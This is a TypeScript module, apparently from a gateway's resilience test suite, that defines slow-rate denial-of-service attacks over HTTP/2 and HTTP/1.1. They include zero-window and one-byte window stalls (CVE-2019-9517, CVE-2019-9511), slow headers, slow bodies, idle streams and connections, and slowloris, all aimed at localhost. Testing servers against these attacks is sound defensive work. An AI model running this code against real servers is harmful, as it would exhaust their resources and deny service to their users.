// Attacks that do as little as they can: ask and never take, begin and never end.
import { connect } from 'node:net';
import { hpackBlock } from '../support/hpack.ts';
import type { RawHttp2Client } from '../support/http2-client.ts';
import { FLAG, FRAME, headersBytes, SETTING } from '../support/http2-frames.ts';
import { type Attack, type AttackPlace, HELD, inParallel, onHttp2, pause } from './attack.ts';
import { request } from './attack-floods.ts';

/** What the gateway lets a client have under way. */
const STREAMS = 100;
/** Fewer streams together than the gateway has connections to its origin, which is not what is attacked. */
const STALLED_CONNECTIONS = 5;
/** Between two bytes of the slow ones. */
const STEP_MS = 100;
const MAX_WINDOW = 2 ** 31 - 1;

const LARGE = hpackBlock(request('GET', '/large'));
const UPLOAD = hpackBlock([...request('POST', '/attack'), ['content-length', '100000']]);

/** Opens as many streams as may be with a block each. */
function openStreams(client: RawHttp2Client, block: Buffer, flags: number, count = STREAMS): Promise<void> {
  return client.send(Buffer.concat(Array.from({ length: count }, (_, i) => headersBytes(i * 2 + 1, block, flags))));
}

/** Numbers of the streams that `openStreams` opens, one after the other. */
function inTurn(): () => number {
  let turn = 0;
  return () => (turn++ % STREAMS) * 2 + 1;
}

async function hold(client: RawHttp2Client, { signal }: AttackPlace): Promise<void> {
  while (!signal.aborted && !client.ended) await pause(STEP_MS, signal);
}

/** Writes a byte now and then until it is over. */
async function drip(place: AttackPlace, isOver: () => boolean, write: () => Promise<void>): Promise<void> {
  while (!place.signal.aborted && !isOver()) {
    await write();
    place.tally.sent++;
    await pause(STEP_MS, place.signal);
  }
}

async function slowHead(place: AttackPlace): Promise<void> {
  const socket = connect(place.port, '127.0.0.1');
  let isOver = false;
  for (const event of ['end', 'close', 'error']) socket.once(event, () => (isOver = true));
  const head = 'GET /attack HTTP/1.1\r\nHost: attack.example.com\r\nX-Slow: ';
  void socket.resume().write(head);
  await drip(
    place,
    () => isOver,
    () => new Promise((resolve) => void socket.write('s', () => resolve())),
  );
  place.tally.ended(isOver ? 'closed' : HELD);
  socket.destroy();
}

export const stalls: readonly Attack[] = [
  {
    name: 'zero window',
    what: `asks for ${STREAMS} answers of 1 MB a connection, and gives no room for them (CVE-2019-9517)`,
    run: (place) =>
      onHttp2(
        place,
        { connections: STALLED_CONNECTIONS, settings: [[SETTING.initialWindowSize, 0]] },
        async (client) => {
          await openStreams(client, LARGE, FLAG.endStream);
          // Who reads nothing learns only by writing that the connection is gone.
          await drip(
            place,
            () => client.ended,
            () => client.frame(FRAME.priority, 0, 1, Buffer.from([0, 0, 0, 0, 16])),
          );
        },
      ),
  },
  {
    name: 'drop of room',
    what: 'the same, with room for one byte now and then (CVE-2019-9511)',
    run: (place) =>
      onHttp2(
        place,
        { connections: STALLED_CONNECTIONS, settings: [[SETTING.initialWindowSize, 1]] },
        async (client) => {
          await openStreams(client, LARGE, FLAG.endStream);
          const nextStream = inTurn();
          await drip(
            place,
            () => client.ended,
            () => client.windowUpdate(nextStream(), 1),
          );
        },
      ),
  },
  {
    name: 'slow reads',
    what: `gives room for ${STREAMS} answers of 1 MB a connection, and reads none of it`,
    run: (place) =>
      onHttp2(
        place,
        { connections: STALLED_CONNECTIONS, settings: [[SETTING.initialWindowSize, MAX_WINDOW]] },
        async (client) => {
          client.socket.pause();
          void client.windowUpdate(0, MAX_WINDOW - 65_535);
          await openStreams(client, LARGE, FLAG.endStream);
          // Who reads nothing learns only by writing that the connection is gone.
          await drip(
            place,
            () => client.ended,
            () => client.frame(FRAME.priority, 0, 1, Buffer.from([0, 0, 0, 0, 16])),
          );
        },
      ),
  },
  {
    name: 'slow heads',
    what: 'a header block that comes byte by byte',
    run: (place) =>
      onHttp2(place, { connections: 100 }, async (client) => {
        void client.frame(FRAME.headers, FLAG.endStream, 1, hpackBlock(request('GET', '/attack')));
        await drip(
          place,
          () => client.ended,
          () => client.frame(FRAME.continuation, 0, 1, Buffer.from([0])),
        );
      }),
  },
  {
    name: 'slow bodies',
    what: `content that comes byte by byte, on ${STREAMS} streams a connection`,
    run: (place) =>
      onHttp2(place, { connections: 10 }, async (client) => {
        await openStreams(client, UPLOAD, 0);
        const nextStream = inTurn();
        await drip(
          place,
          () => client.ended,
          () => client.data(nextStream(), 's'),
        );
      }),
  },
  {
    name: 'idle streams',
    what: `${STREAMS} requests a connection whose content never comes`,
    run: (place) =>
      onHttp2(place, { connections: 20 }, async (client) => {
        await openStreams(client, UPLOAD, 0);
        place.tally.sent += STREAMS;
        await hold(client, place);
      }),
  },
  {
    name: 'idle connections',
    what: '500 connections that say nothing after their settings',
    run: (place) =>
      onHttp2(place, { connections: 500 }, (client) => {
        place.tally.sent++;
        return hold(client, place);
      }),
  },
  {
    name: 'HTTP/1.1 slow heads',
    what: '500 connections whose requests come byte by byte (slowloris)',
    run: (place) => inParallel(place, 500, () => slowHead(place)),
  },
];
